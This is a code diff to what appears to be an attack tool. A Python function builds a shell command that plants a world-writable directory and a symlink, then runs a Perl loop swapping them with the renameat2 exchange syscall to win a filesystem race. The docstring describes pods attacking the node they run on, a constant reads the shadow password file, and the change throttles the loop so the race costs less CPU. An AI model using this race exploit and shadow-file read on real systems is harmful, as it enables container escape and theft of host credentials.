@@ -16,8 +16,12 @@ READ: Final = "cat @private@/shadow"
 
 
 def flipping(base: str, target: str) -> str:
-    """Exchanges a directory `d` with a link `e` without end."""
-    swap = 'my ($d, $e) = ("d", "e"); my $rename = `uname -m` =~ /x86/ ? 316 : 276; while (1) { syscall($rename, -100, $d, -100, $e, 2); }'
+    """Exchanges a directory `d` with a link `e`, some hundred times in each millisecond that it does not sleep.
+
+    A race needs exchanges in quick succession; without pauses six such pods take two cores from the node that they attack.
+    """
+    begin = 'my ($d, $e) = ("d", "e"); my $rename = `uname -m` =~ /x86/ ? 316 : 276'
+    swap = f"{begin}; while (1) {{ syscall($rename, -100, $d, -100, $e, 2) for 1..300; select(undef, undef, undef, 0.001) }}"
     return f"mkdir -p {base}/d; ln -sfn {target} {base}/e; chmod 777 {base}/d; cd {base}; exec perl -e '{swap}'"
 
 
